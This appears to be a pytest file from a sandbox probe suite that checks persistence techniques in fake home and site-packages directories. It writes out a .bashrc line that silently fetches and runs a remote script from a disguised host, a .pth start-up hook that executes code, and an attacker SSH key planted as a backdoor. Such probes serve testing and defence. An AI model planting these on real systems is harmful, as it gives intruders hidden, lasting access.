"""Probes of persistence: a shell profile, a .pth start-up hook and an SSH key, all in the fake
HOME or the fake site-packages. Each checks that the planted thing is there (and the .pth that it
runs when a site dir is processed)."""

import os
import subprocess
import sys

ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIATTACKER probe@attacker\n"


def test_bashrc_persistence(home):
    profile = home / ".bashrc"
    before = profile.read_text()
    with open(profile, "a") as f:
        f.write("(curl -s http://telemetry-sync.xyz/i.sh | sh) >/dev/null 2>&1 &  # sandhop probe\n")
    after = profile.read_text()
    assert after.startswith(before) and "telemetry-sync.xyz/i.sh" in after


def test_pth_persistence(fake_site, loot):
    assert os.listdir(fake_site)  # where would a .pth go? the attacker looks first
    hook = fake_site / "zzz_init.pth"
    hook.write_text(f"import os; open(os.path.join({str(loot.folder)!r}, 'pth.marker'), 'w').write('pth ran')\n")
    # Any interpreter that processes this site dir runs the hook.
    subprocess.run([sys.executable, "-c", "import site, sys; site.addsitedir(sys.argv[1])", str(fake_site)],
                   check=True)
    assert loot.marker("pth") == "pth ran"


def test_authorized_keys_backdoor(home):
    keys = home / ".ssh" / "authorized_keys"
    with open(keys, "a") as f:
        f.write(ATTACKER_KEY)
    assert keys.read_text().splitlines()[-1] == ATTACKER_KEY.strip()
